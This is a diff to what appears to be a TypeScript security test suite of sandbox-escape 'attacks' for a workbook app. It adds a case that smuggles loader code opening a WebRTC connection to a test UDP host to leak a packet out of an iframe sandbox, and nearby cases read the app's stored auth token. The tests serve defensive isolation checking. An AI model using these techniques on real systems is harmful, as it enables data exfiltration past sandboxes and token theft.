@@ -199,6 +199,30 @@ export const callsOfFreshWindow: readonly Attack[] = [
   },
 ];
 
+/** WebRTC of a window where a site's loader gets its parts from the workbook: success is a packet. */
+export const callsOfLoader: readonly Attack[] = [
+  {
+    name: "WebRTC of a loader",
+    run: async ({ udp, settled }) => {
+      const code = `const peer = new RTCPeerConnection({iceServers: [{urls: 'stun:${udp}'}]});
+        peer.createDataChannel('out'); peer.createOffer().then((offer) => peer.setLocalDescription(offer))`;
+      const modules = { "x.js": { imports: [], edits: [] } };
+      const links = { entry: "x.js", styles: [], modules, sheets: {}, files: [], packed: [] };
+      window.addEventListener("message", ({ ports: [port] }) => {
+        port?.addEventListener("message", ({ data, ports: [reply] }: MessageEvent<unknown>) =>
+          reply?.postMessage(
+            new TextEncoder().encode(data === "x.js" ? code : JSON.stringify(links)).buffer,
+          ),
+        );
+        port?.start();
+      });
+      const srcdoc = `<body><script>${document.scripts[0]?.text}</script>`;
+      await settled(Object.assign(document.createElement("iframe"), { srcdoc }));
+      await new Promise((resolve) => setTimeout(resolve, 1_000));
+    },
+  },
+];
+
 /** Each reads what is the shell's or another workbook's: success is what it came to. */
 export const reads: readonly Attack[] = [
   { name: "token", run: () => localStorage.getItem("tierbook.token") },
